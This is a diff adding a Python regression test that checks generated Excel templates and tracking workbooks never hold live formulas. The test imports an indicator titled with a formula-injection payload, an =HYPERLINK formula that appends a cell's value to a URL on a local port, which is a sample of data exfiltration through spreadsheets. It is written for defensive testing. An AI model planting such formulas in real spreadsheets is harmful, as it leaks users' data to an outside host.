@@ -306,6 +306,29 @@ def test_templates_never_write_an_imported_formula(store_copy):
     assert ingest.check(store_copy, "actions", text, "modele.csv").status == "unchanged"
 
 
+def test_no_generated_workbook_holds_a_formula(store_copy):
+    """An indicator titled like a formula, an objective, a campus name: every cell of every sheet of every template
+    and every export is text or a number, never a formula (the « Indicateurs » sheet wrote titles as live cells)."""
+    from cmq.core import schema
+    from cmq.outputs import iptt, templates
+
+    formula = '=HYPERLINK("http://127.0.0.1:9/?d="&A2,"Aide")'
+    quoted = formula.replace('"', '""')
+    _import(store_copy, "indicators", "Identifiant indicateur;Code campus;Identifiant objectif;Intitulé;Unité;Sens;"
+                                      f'Cumulatif\nAGT-I01;AGT;AGT-S1-O1-R1;"{quoted}";nombre;hausse;non\n')
+    books = {f"modèle {t}": templates.xlsx_bytes(store_copy, t, "AGT") for t in schema.TABLES}
+    books["suivi"] = iptt.workbook(store_copy, "region", 2018)
+    seen = 0
+    for name, data in books.items():
+        wb = openpyxl.load_workbook(io.BytesIO(data))
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
+                    seen += cell.value == formula
+    assert seen >= 2  # the title is there, as the words it is (template's « Indicateurs » sheet, tracking table)
+
+
 def test_the_pptx_chart_workbooks_hold_no_formula(store_copy):
     from cmq.outputs import pack
 
